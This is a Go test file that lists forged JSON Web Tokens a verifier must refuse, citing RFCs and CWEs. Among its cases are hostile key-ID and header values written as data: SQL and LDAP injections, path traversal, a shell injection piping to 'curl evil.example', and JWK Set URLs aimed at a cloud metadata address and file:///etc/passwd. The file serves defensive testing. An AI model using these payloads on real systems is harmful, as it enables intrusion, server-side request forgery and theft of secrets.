package verifytest

import (
	"crypto/sha256"
	"encoding/base64"
	"strings"

	"github.com/customersession/customersession/keys/jwk"
)

// keyCases are signed with a key that is not the issuer's.
func keyCases() []Case {
	const why = "somebody else has signed it"
	const source = "RFC 7515, Section 5.2"
	return []Case{
		refuse("attacker-key", "another's key under its own ID", why, source,
			forged(byAttacker, `$kid`, `$attacker_kid`)),
		refuse("attacker-key-stolen-id", "another's key under the ID of the issuer's", why, source,
			forged(byAttacker)),
		refuse("attacker-key-no-id", "another's key and no key ID", why, source,
			forged(byAttacker, `"kid":"$kid",`, ``)),
		refuse("attacker-key-empty-id", "another's key and an empty key ID", why, source,
			forged(byAttacker, `$kid`, ``)),
		refuse("attacker-key-null-id", "another's key and a null key ID", why, source,
			forged(byAttacker, `"$kid"`, `null`)),
		refuse("second-key-wrong-id", "the issuer's ES256 key under the ID of its EdDSA key",
			"the named key has not signed it", "RFC 7515, Section 4.1.4",
			header(`$kid`, `$second_kid`)).on(jwk.ES256, jwk.EdDSA).ours(),
		refuse("second-key-wrong-alg", "the ID of the issuer's EdDSA key, signed with ES256 under the name EdDSA",
			"the named key has not signed it", "RFC 8725, Section 3.1",
			header(`$kid`, `$second_kid`, `$alg`, `EdDSA`)).on(jwk.ES256, jwk.EdDSA),
	}
}

// keyIDCases attack the lookup of the key.
func keyIDCases() []Case {
	const inject = "a key ID reaches a file system, a data base or a shell"
	const source = "RFC 8725, Section 3.10"
	const named, exact = "key IDs name a key exactly", "RFC 7515, Section 4.1.4"
	empty := hmacOf(sha256.New, nil)
	return []Case{
		refuse("kid-dev-null", "a path to an empty file for a key ID, HMAC with an empty secret",
			inject, source, forged(empty, `$alg`, `HS256`, `$kid`, `../../../../../../dev/null`)),
		refuse("kid-path", "a path for a key ID", inject, source,
			forged(byAttacker, `$kid`, `/proc/sys/kernel/randomize_va_space`)),
		refuse("kid-sql", "an SQL injection that chooses the secret", inject, source,
			forged(hmacOf(sha256.New, []byte("chosen")), `$alg`, `HS256`,
				`$kid`, `x' UNION SELECT 'chosen';--`)),
		refuse("kid-sql-or", "an SQL injection that matches every key", inject, source,
			forged(byAttacker, `$kid`, `' OR '1'='1`)),
		refuse("kid-shell", "a shell command for a key ID", inject, source,
			forged(byAttacker, `$kid`, `$kid|curl evil.example`)),
		refuse("kid-ldap", "an LDAP filter for a key ID", inject, source, forged(byAttacker, `$kid`, `*)(kid=*`)),
		refuse("kid-url", "a URL for a key ID", "keys come from the issuer alone", source,
			forged(byAttacker, `$kid`, `$attacker_jku`)),
		refuse("kid-prototype", "__proto__ for a key ID", "a key ID reaches into an object's prototype", source,
			forged(byAttacker, `$kid`, `__proto__`)),
		refuse("kid-log-line", "line breaks in a key ID", "a key ID forges log lines", "CWE-117",
			forged(byAttacker, `$kid`, `$kid\r\nlevel=INFO msg=accepted`)),
		refuse("kid-long", "a key ID of 2000 characters", "it is no key's", source,
			forged(byAttacker, `$kid`, strings.Repeat("k", 2000))),
		refuse("kid-missing", "no key ID", named, exact, header(`"kid":"$kid",`, ``)).ours(),
		refuse("kid-empty", "an empty key ID", named, exact, header(`$kid`, ``)).ours(),
		refuse("kid-null", "a null key ID", named, exact, header(`"$kid"`, `null`)).ours(),
		refuse("kid-number", "a number for a key ID", named, exact, header(`"$kid"`, `0`)).ours(),
		refuse("kid-list", "a list for a key ID", named, exact, header(`"$kid"`, `["$kid"]`)).ours(),
		refuse("kid-nul", "the key ID and a NUL", named, exact, header(`$kid`, `$kid\u0000`)).ours(),
		refuse("kid-space", "the key ID and a space", named, exact, header(`$kid`, `$kid `)).ours(),
		refuse("kid-suffix", "the key ID and more", named, exact, header(`$kid`, `$kid.1`)).ours(),
		refuse("kid-name-case", "KID instead of kid", named, exact, header(`"kid"`, `"KID"`)).ours(),
		refuse("kid-name-folded", "kid with a Kelvin sign", named, exact,
			header(`"kid"`, "\"\u212aid\"")).ours(),
	}
}

// carriedKeyCases carry a key, or point to one.
func carriedKeyCases() []Case {
	const why = "a key from a token says nothing about who signed it"
	const jwkSource = "CVE-2018-0114; RFC 8725, Section 3.10"
	const urlSource = "RFC 7515, Section 4.1.2; RFC 8725, Section 3.10"
	const own = "members that point to keys are not for these tokens"
	return []Case{
		refuse("jwk-attacker", "the attacker's key in the header", why, jwkSource,
			forged(byAttacker, `$kid`, `$attacker_kid`, `{`, `{"jwk":$attacker_jwk,`)),
		refuse("jwk-attacker-stolen-id", "the attacker's key in the header, under the ID of the issuer's",
			why, jwkSource, forged(byAttacker, `{`, `{"jwk":$attacker_jwk,`)),
		refuse("jwk-attacker-no-id", "the attacker's key in the header, no key ID", why, jwkSource,
			forged(byAttacker, `"kid":"$kid",`, `"jwk":$attacker_jwk,`)),
		refuse("jwk-symmetric", "a secret in the header", why, jwkSource,
			forged(hmacOf(sha256.New, []byte("chosen")), `$alg`, `HS256`,
				`{`, `{"jwk":{"kty":"oct","k":"`+base64.RawURLEncoding.EncodeToString([]byte("chosen"))+`"},`)),
		refuse("jwk-with-issuer-id", "the attacker's key in the header, its own kid the issuer's",
			why, jwkSource, func(f *forge) string {
				carried := string(f.attacker.key.WithID(f.key.key.ID()).AppendJSON(nil))
				return forged(byAttacker, `{`, `{"jwk":`+carried+`,`)(f)
			}),
		refuse("jku-attacker", "the address of the attacker's JWK Set", why, urlSource,
			forged(byAttacker, `$kid`, `$attacker_kid`, `{`, `{"jku":"$attacker_jku",`)),
		refuse("jku-attacker-dots", "the attacker's JWK Set behind the path of the issuer's", why, urlSource,
			forged(byAttacker, `$kid`, `$attacker_kid`, `{`, `{"jku":"$jku/../../uploads/jwks.json",`)),
		refuse("jku-loopback", "an address inside the network for a JWK Set",
			"a token makes the verifier send requests", "RFC 8725, Section 3.10; CWE-918",
			forged(byAttacker, `$kid`, `$attacker_kid`, `{`, `{"jku":"http://169.254.169.254/latest/meta-data/",`)),
		refuse("jku-file", "a file for a JWK Set", "a token makes the verifier read files",
			"RFC 8725, Section 3.10", forged(byAttacker, `{`, `{"jku":"file:///etc/passwd",`)),
		refuse("x5u-attacker", "the address of the attacker's certificate", why, urlSource,
			forged(byAttacker, `$kid`, `$attacker_kid`, `{`, `{"x5u":"$attacker_x5u",`)),
		refuse("x5c-attacker", "the attacker's certificate in the header", why,
			"RFC 7515, Section 4.1.6", forged(byAttacker, `{`, `{"x5c":["$attacker_x5c"],`)),
		refuse("x5c-attacker-no-id", "the attacker's certificate in the header, no key ID", why,
			"RFC 7515, Section 4.1.6", forged(byAttacker, `"kid":"$kid",`, `"x5c":["$attacker_x5c"],`)),
		refuse("jwk-own", "the issuer's own key in the header", own, "RFC 7515, Section 4.1.3",
			header(`{`, `{"jwk":$jwk,`)).ours(),
		refuse("jku-own", "the address of the issuer's own JWK Set", own, "RFC 7515, Section 4.1.2",
			header(`{`, `{"jku":"$jku",`)).ours(),
	}
}
